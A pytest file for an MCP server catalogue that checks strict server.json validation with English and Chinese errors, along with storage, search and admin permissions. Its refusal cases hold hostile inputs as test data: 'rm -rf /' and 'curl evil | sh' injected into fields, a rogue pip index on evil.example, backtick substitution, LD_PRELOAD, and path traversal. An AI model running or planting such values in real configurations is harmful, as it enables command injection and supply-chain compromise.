"""The MCP catalogue (workbench/mcp): server.json read strictly where it reaches pip, npm or a process, every
refusal naming the field in English and Chinese; the bundled entries; the store's rows, seeded, imported,
searched in both languages, hidden and removed, on a real DuckDB file."""

from __future__ import annotations

import copy
import json
import re
import shutil
from pathlib import Path
from typing import Any

import pytest

from workbench.mcp.catalogue import BUNDLED_DIR, Catalogue, Forbidden, NotFound, Viewer
from workbench.mcp.server_json import MAX_BYTES, SCHEMA_URL, Invalid, parse_server_json
from workbench.schema import open_store

CJK = re.compile(r"[\u3400-\u9fff]")
ADMIN = Viewer("u-admin", is_admin=True)
ALICE = Viewer("u-alice", team_ids=frozenset({"t-lab"}))
BOB = Viewer("u-bob")
TIME = "io.github.modelcontextprotocol/server-time"

WEATHER: dict[str, Any] = {
    "$schema": SCHEMA_URL,
    "name": "io.github.example/weather",
    "title": "Weather",
    "description": "Forecasts and current conditions for any city.",
    "version": "1.4.0",
    "repository": {"url": "https://github.com/example/weather", "source": "github"},
    "packages": [{
        "registryType": "pypi", "identifier": "weather-mcp", "version": "1.4.0", "transport": {"type": "stdio"},
        "packageArguments": [{"type": "named", "name": "--units", "default": "metric", "choices": ["metric", "us"]},
                             {"type": "positional", "valueHint": "city"}],
        "environmentVariables": [{"name": "WEATHER_API_KEY", "isRequired": True, "isSecret": True},
                                 {"name": "WEATHER_LANG", "default": "zh"}],
    }],
    "remotes": [{"type": "streamable-http", "url": "https://weather.example.org/mcp",
                 "headers": [{"name": "Authorization", "value": "Bearer {token}", "isSecret": True,
                              "variables": {"token": {"isSecret": True, "isRequired": True}}}]}],
    "_meta": {"io.maas-workbench/catalogue": {"tags": ["forecast"],
                                              "zh": {"title": "天气", "description": "任意城市的天气预报与实况。",
                                                     "tags": ["天气预报", "气温"]}}},
}


def weather(change=None) -> str:
    data = copy.deepcopy(WEATHER)
    if change:
        change(data)
    return json.dumps(data, ensure_ascii=False)


def setting(path: str, value: Any):
    """A change to WEATHER: the value at a dotted path ("packages.0.version") set, or removed when value is ...."""
    def change(data: dict) -> None:
        *parents, last = path.split(".")
        for part in parents:
            data = data[int(part)] if part.isdigit() else data[part]
        key = int(last) if last.isdigit() else last
        if value is ...:
            del data[key]
        else:
            data[key] = value
    return change


@pytest.fixture
def catalogue(tmp_path: Path):
    store = open_store(tmp_path / "workbench.duckdb")
    yield Catalogue(store)
    store.close()


# -- server.json --------------------------------------------------------------------------------------------------

def test_every_bundled_entry_parses_pinned_and_listed_in_both_languages() -> None:
    servers = {parse_server_json(p.read_text(encoding="utf-8")).name: parse_server_json(p.read_bytes())
               for p in sorted(BUNDLED_DIR.glob("*.json"))}
    identities = {(p.registry_type, p.identifier, p.version) for s in servers.values() for p in s.packages}
    assert identities == {("pypi", "mcp-server-time", "2026.10.19"), ("pypi", "mcp-server-calculator", "0.2.1"),
                          ("pypi", "mcp-server-git", "2026.10.19"),
                          ("npm", "@modelcontextprotocol/server-everything", "2026.8.31")}
    for server in servers.values():
        assert server.schema == SCHEMA_URL and server.version == server.packages[0].version
        assert server.title and server.tags and server.repository and server.repository.url.startswith("https://")
        chinese = server.chinese
        assert CJK.search(chinese.title + chinese.description) and all(CJK.search(t) for t in chinese.tags)
        assert server.listing("zh-CN").title == server.chinese.title and server.listing("en").title == server.title
    time = servers[TIME].packages[0]
    assert [a.name for a in time.package_arguments] == ["--local-timezone"]
    assert [e.name for e in time.environment_variables] == ["TZ"]
    everything = servers["io.github.modelcontextprotocol/server-everything"].packages[0]
    assert {e.name for e in everything.environment_variables} == {
        "GZIP_ALLOWED_DOMAINS", "GZIP_MAX_FETCH_SIZE", "GZIP_MAX_FETCH_TIME_MILLIS"}


def test_a_good_entry_is_read_into_its_parts() -> None:
    server = parse_server_json(weather(setting("status", "active")))
    package = server.packages[0]
    assert (package.registry_type, package.identifier, package.version) == ("pypi", "weather-mcp", "1.4.0")
    assert [(a.type, a.name, a.value_hint, a.default) for a in package.package_arguments] == [
        ("named", "--units", None, "metric"), ("positional", "", "city", None)]
    key, lang = package.environment_variables
    assert (key.name, key.is_secret, key.is_required, lang.default) == ("WEATHER_API_KEY", True, True, "zh")
    header = server.remotes[0].headers[0]
    assert header.value == "Bearer {token}" and header.variables["token"].is_secret
    assert server.extra == {"status": "active"}                 # an unknown field is kept aside, not refused
    assert server.listing("zh").description == "任意城市的天气预报与实况。"


def test_a_registry_answer_and_earlier_dates_of_the_format_are_read() -> None:
    answer = json.dumps({"server": WEATHER, "_meta": {"io.modelcontextprotocol.registry/official": {}}})
    assert parse_server_json(answer).name == "io.github.example/weather"
    older = "https://static.modelcontextprotocol.io/schemas/2025-09-29/server.schema.json"
    assert parse_server_json(weather(setting("$schema", older))).schema == older
    assert parse_server_json(weather(setting("$schema", ...))).schema == SCHEMA_URL


BAD = [
    # (what, the change, the field named, the message's code)
    ("a version range", setting("packages.0.version", "^1.2"), "packages[0].version", "catalogue.version_range"),
    ("latest", setting("packages.0.version", "latest"), "packages[0].version", "catalogue.version_range"),
    ("a version with a command", setting("packages.0.version", "1.0 ; rm -rf /"), "packages[0].version",
     "catalogue.bad_version"),
    ("a git URL for a version", setting("packages.0.version", "git+https://github.com/x/y.git"),
     "packages[0].version", "catalogue.bad_version"),
    ("a path for a version", setting("packages.0.version", "../../wheels/x.whl"), "packages[0].version",
     "catalogue.bad_version"),
    ("an identifier with spaces", setting("packages.0.identifier", "weather mcp"), "packages[0].identifier",
     "catalogue.bad_identifier.pypi"),
    ("an identifier that is a pip option", setting("packages.0.identifier", "--index-url=https://evil.example"),
     "packages[0].identifier", "catalogue.bad_identifier.pypi"),
    ("an identifier with a version", setting("packages.0.identifier", "weather-mcp==1.0"),
     "packages[0].identifier", "catalogue.bad_identifier.pypi"),
    ("an identifier that is a URL", setting("packages.0.identifier", "git+https://github.com/x/y"),
     "packages[0].identifier", "catalogue.bad_identifier.pypi"),
    ("an npm name with capitals", lambda d: d["packages"][0].update(registryType="npm", identifier="@Evil/X",
                                                                     version="1.0.0"),
     "packages[0].identifier", "catalogue.bad_identifier.npm"),
    ("an npm range", lambda d: d["packages"][0].update(registryType="npm", identifier="@scope/x", version="~1.0.0"),
     "packages[0].version", "catalogue.version_range"),
    ("an npm version that is not semver", lambda d: d["packages"][0].update(registryType="npm", identifier="x",
                                                                             version="1.0"),
     "packages[0].version", "catalogue.bad_version"),
    ("a docker package", setting("packages.0.registryType", "docker"), "packages[0].registryType",
     "catalogue.registry_type"),
    ("another index", setting("packages.0.registryBaseUrl", "https://evil.example/simple"),
     "packages[0].registryBaseUrl", "catalogue.registry_base_url"),
    ("an env name with a dash", setting("packages.0.environmentVariables.1.name", "A-B"),
     "packages[0].environmentVariables[1].name", "catalogue.bad_env_name"),
    ("LD_PRELOAD", setting("packages.0.environmentVariables.1.name", "LD_PRELOAD"),
     "packages[0].environmentVariables[1].name", "catalogue.reserved_env"),
    ("node options", setting("packages.0.environmentVariables.1.name", "NODE_OPTIONS"),
     "packages[0].environmentVariables[1].name", "catalogue.reserved_env"),
    ("the workbench's key", setting("packages.0.environmentVariables.1.name", "MAAS_SECRET_KEY"),
     "packages[0].environmentVariables[1].name", "catalogue.reserved_env"),
    ("a pip setting in lower case", setting("packages.0.environmentVariables.1.name", "pip_index_url"),
     "packages[0].environmentVariables[1].name", "catalogue.reserved_env"),
    ("an env name twice", setting("packages.0.environmentVariables.1.name", "WEATHER_API_KEY"),
     "packages[0].environmentVariables[1].name", "catalogue.duplicate_name"),
    ("a secret with a default", setting("packages.0.environmentVariables.0.default", "sk-123"),
     "packages[0].environmentVariables[0].default", "catalogue.secret_value"),
    ("a secret header with its value", setting("remotes.0.headers.0.value", "Bearer sk-123"),
     "remotes[0].headers[0].value", "catalogue.secret_value"),
    ("a shell command as an argument", setting("packages.0.packageArguments.1.value", "x; curl evil | sh"),
     "packages[0].packageArguments[1].value", "catalogue.shell_chars"),
    ("a variable that puts a command in an argument",
     lambda d: d["packages"][0]["packageArguments"][0].update(
         value="--units={u}", variables={"u": {"default": "metric`id`"}}),
     "packages[0].packageArguments[0].variables.u.default", "catalogue.shell_chars"),
    ("a flag with a semicolon", setting("packages.0.packageArguments.0.name", "--units;id"),
     "packages[0].packageArguments[0].name", "catalogue.bad_flag"),
    ("a positional argument of nothing", setting("packages.0.packageArguments.1.valueHint", ...),
     "packages[0].packageArguments[1].valueHint", "catalogue.positional_value"),
    ("a flag that is no string", setting("packages.0.environmentVariables.0.isSecret", "yes"),
     "packages[0].environmentVariables[0].isSecret", "catalogue.bad_type.boolean"),
    ("a websocket transport", setting("packages.0.transport.type", "websocket"), "packages[0].transport.type",
     "catalogue.bad_choice"),
    ("a stdio remote", setting("remotes.0.type", "stdio"), "remotes[0].type", "catalogue.bad_choice"),
    ("a remote over ftp", setting("remotes.0.url", "ftp://weather.example.org/mcp"), "remotes[0].url",
     "catalogue.bad_url"),
    ("a remote with a password", setting("remotes.0.url", "https://me:pw@weather.example.org/mcp"),
     "remotes[0].url", "catalogue.url_credentials"),
    ("a Host header", setting("remotes.0.headers.0.name", "Host"), "remotes[0].headers[0].name",
     "catalogue.reserved_header"),
    ("nothing to run", lambda d: (d.pop("packages"), d.pop("remotes")), "packages", "catalogue.nothing_to_run"),
    ("packages that are no list", setting("packages", {"registryType": "pypi"}), "packages",
     "catalogue.bad_type.array"),
    ("no name", setting("name", ...), "name", "catalogue.missing"),
    ("a name without namespace", setting("name", "weather"), "name", "catalogue.bad_name"),
    ("a long description", setting("description", "x" * 101), "description", "catalogue.too_long"),
    ("a title that reads backwards", setting("title", "Weather\u202egnp.exe"), "title", "catalogue.control_chars"),
    ("a subfolder outside", setting("repository.subfolder", "../../etc"), "repository.subfolder",
     "catalogue.bad_subfolder"),
    ("our tags not a list", lambda d: d["_meta"].update({"io.maas-workbench/catalogue": {"tags": "forecast"}}),
     '_meta["io.maas-workbench/catalogue"].tags', "catalogue.bad_type.array"),
    ("the wrong $schema", setting("$schema", "https://example.org/server.schema.json"), "$schema",
     "catalogue.schema"),
    ("the snake_case $schema of 2025-07-09",
     setting("$schema", "https://static.modelcontextprotocol.io/schemas/2025-07-09/server.schema.json"), "$schema",
     "catalogue.schema"),
]


@pytest.mark.parametrize(("what", "change", "field", "key"), BAD, ids=[case[0] for case in BAD])
def test_a_bad_entry_is_refused_naming_the_field_in_english_and_chinese(what, change, field, key) -> None:
    with pytest.raises(Invalid) as caught:
        parse_server_json(weather(change))
    error = caught.value
    assert (error.field, error.key) == (field, key), what
    assert error.code == key.split(".")[1]
    assert error.text("en").startswith(f"{field}: ") and error.message == error.text("en")
    zh = error.text("zh-CN")
    assert zh.startswith(f"{field}：") and CJK.search(zh)


@pytest.mark.parametrize(("text", "key"), [
    ("{\"name\": ", "catalogue.not_json"),
    ("[1, 2]", "catalogue.bad_type.object"),
    ('{"name": "io.github.a/b", "name": "io.github.a/c"}', "catalogue.duplicate_key"),
    (b"\xff\xfe{}", "catalogue.not_utf8"),
    ('{"name": "\ud800"}', "catalogue.not_utf8"),
    ("[" * 100_000 + "]" * 100_000, "catalogue.too_deep"),
], ids=["cut short", "a list", "a key twice", "not UTF-8", "a lone surrogate", "nested deep"])
def test_a_file_that_is_no_server_json_is_refused_as_a_whole(text, key) -> None:
    with pytest.raises(Invalid) as caught:
        parse_server_json(text)
    assert (caught.value.field, caught.value.key) == ("server.json", key)
    assert caught.value.text("zh").startswith("server.json：")


def test_an_oversize_file_is_refused_before_it_is_read() -> None:
    padded = weather(setting("_meta.pad", "x" * MAX_BYTES))
    with pytest.raises(Invalid) as caught:
        parse_server_json(padded)
    assert (caught.value.field, caught.value.key) == ("server.json", "catalogue.too_large")
    assert f"at most {MAX_BYTES} bytes" in caught.value.message and "最多" in caught.value.text("zh")


def test_a_lone_surrogate_written_as_a_json_escape_is_refused_in_the_field() -> None:
    escaped = json.dumps(dict(WEATHER, description="Weather \ud800"))      # ASCII: "\\ud800" in the text
    with pytest.raises(Invalid) as caught:
        parse_server_json(escaped)
    assert (caught.value.field, caught.value.key) == ("description", "catalogue.control_chars")


def test_a_refusal_inside_a_registry_answer_names_the_path_from_the_top() -> None:
    data = copy.deepcopy(WEATHER)
    data["packages"][0]["version"] = "*"
    with pytest.raises(Invalid) as caught:
        parse_server_json(json.dumps({"server": data}))
    assert caught.value.field == "server.packages[0].version"


# -- the catalogue in the store ----------------------------------------------------------------------------------

def test_seeding_twice_adds_the_bundled_entries_once(catalogue: Catalogue) -> None:
    added = catalogue.seed_bundled()
    assert len(added) == 4 and TIME in added
    ids = {e.name: e.id for e in catalogue.list(ALICE)}
    assert catalogue.seed_bundled() == []
    assert {e.name: e.id for e in catalogue.list(ALICE)} == ids
    assert {e.source for e in catalogue.list(ALICE)} == {"bundled"}


def test_a_newer_bundled_version_replaces_the_old_row_in_place(catalogue: Catalogue, tmp_path: Path) -> None:
    bundled = tmp_path / "bundled"
    shutil.copytree(BUNDLED_DIR, bundled)
    catalogue.bundled_dir = bundled
    catalogue.seed_bundled()
    old = next(e for e in catalogue.list(ADMIN) if e.name == TIME)
    catalogue.set_enabled(old.id, False, ADMIN)
    path = bundled / "mcp-server-time.json"
    path.write_text(path.read_text(encoding="utf-8").replace("2026.10.19", "2026.11.2"), encoding="utf-8")

    assert catalogue.seed_bundled() == [TIME]
    rows = [e for e in catalogue.list(ADMIN) if e.name == TIME]
    assert len(rows) == 1
    new = rows[0]
    assert (new.id, new.version, new.server.packages[0].version) == (old.id, "2026.11.2", "2026.11.2")
    assert not new.enabled and new.updated_at >= old.updated_at       # the admin's choice stays


def test_an_import_is_found_in_english_and_chinese(catalogue: Catalogue) -> None:
    catalogue.seed_bundled()
    entry = catalogue.import_json(weather(), ADMIN)
    assert (entry.source, entry.visibility, entry.added_by, entry.version) == ("imported", "everyone", "u-admin",
                                                                               "1.4.0")
    for query in ("weather", "Forecast", "天气", "明天的气温", "WEATHER-MCP"):
        assert [e.name for e in catalogue.list(ALICE, query)][:1] == ["io.github.example/weather"], query
    assert [e.name for e in catalogue.list(ALICE, "时间")] == [TIME]
    assert [e.name for e in catalogue.list(ALICE, "现在北京什么时间")][0] == TIME
    assert [e.name for e in catalogue.list(ALICE, "git")] == ["io.github.modelcontextprotocol/server-git"]
    assert [e.name for e in catalogue.list(ALICE, "计算器")] == ["io.github.githejie/mcp-server-calculator"]
    assert catalogue.list(ALICE, "spreadsheet") == []
    assert len(catalogue.list(ALICE)) == 5
    assert catalogue.get(entry.id, BOB).raw == weather()


def test_an_import_replaces_the_entry_of_its_name(catalogue: Catalogue) -> None:
    first = catalogue.import_json(weather(), ADMIN)
    second = catalogue.import_json(weather(lambda d: (d.update(version="1.5.0"),
                                                      d["packages"][0].update(version="1.5.0"))).encode(), ADMIN)
    assert second.id == first.id and second.version == "1.5.0"
    assert [e.version for e in catalogue.list(ADMIN)] == ["1.5.0"]


def test_only_an_admin_imports_and_a_refused_file_leaves_nothing(catalogue: Catalogue) -> None:
    with pytest.raises(Forbidden) as caught:
        catalogue.import_json(weather(), ALICE)
    assert caught.value.code == "admins_only" and CJK.search(caught.value.text("zh"))
    with pytest.raises(Invalid) as caught:
        catalogue.import_json(weather(setting("packages.0.version", "^1.4")), ADMIN)
    assert caught.value.field == "packages[0].version"
    assert catalogue.list(ADMIN) == []


def test_disable_hides_from_users_and_remove_is_for_admins(catalogue: Catalogue) -> None:
    catalogue.seed_bundled()
    entry = catalogue.import_json(weather(), ADMIN)
    catalogue.set_enabled(entry.id, False, ADMIN)
    assert "io.github.example/weather" not in {e.name for e in catalogue.list(ALICE)}
    with pytest.raises(NotFound):
        catalogue.get(entry.id, ALICE)
    assert not catalogue.get(entry.id, ADMIN).enabled
    catalogue.set_enabled(entry.id, True, ADMIN)
    with pytest.raises(Forbidden) as caught:
        catalogue.remove(entry.id, ALICE)
    assert caught.value.key == "catalogue.admins_only.change"
    catalogue.remove(entry.id, ADMIN)
    with pytest.raises(NotFound) as gone:
        catalogue.get(entry.id, ADMIN)
    assert gone.value.field == "id" and CJK.search(gone.value.text("zh"))
    time = next(e for e in catalogue.list(ADMIN) if e.name == TIME)
    with pytest.raises(Forbidden) as caught:
        catalogue.remove(time.id, ADMIN)
    assert caught.value.key == "catalogue.bundled_remove" and "Time" in caught.value.message


def test_a_users_or_teams_entry_is_seen_by_them_only(catalogue: Catalogue) -> None:
    server = parse_server_json(weather())
    with catalogue.store.transaction() as cur:      # what registering one's own remote server (item 4) will write
        mine = Catalogue._insert(cur, server, weather(), source="registered", actor="u-bob", visibility="user",
                                 owner_id="u-bob")
        lab = Catalogue._insert(cur, server, weather(), source="registered", actor="u-alice", visibility="team",
                                owner_id="t-lab")
    assert [e.id for e in catalogue.list(BOB, "weather")] == [mine]
    assert [e.id for e in catalogue.list(ALICE, "天气")] == [lab]
    assert catalogue.list(ADMIN) == []
    for viewer, hidden in ((ALICE, mine), (BOB, lab), (ADMIN, mine)):
        with pytest.raises(NotFound):
            catalogue.get(hidden, viewer)
    with pytest.raises(Forbidden):
        catalogue.remove(mine, BOB)          # not yet: owners manage their own when registering lands


def test_the_catalogue_outlives_a_restart(tmp_path: Path) -> None:
    store = open_store(tmp_path / "workbench.duckdb")
    entry = Catalogue(store).import_json(weather(), ADMIN)
    store.close()
    store = open_store(tmp_path / "workbench.duckdb")
    try:
        again = Catalogue(store)
        assert again.seed_bundled() and again.get(entry.id, ALICE).server.chinese.title == "天气"
    finally:
        store.close()
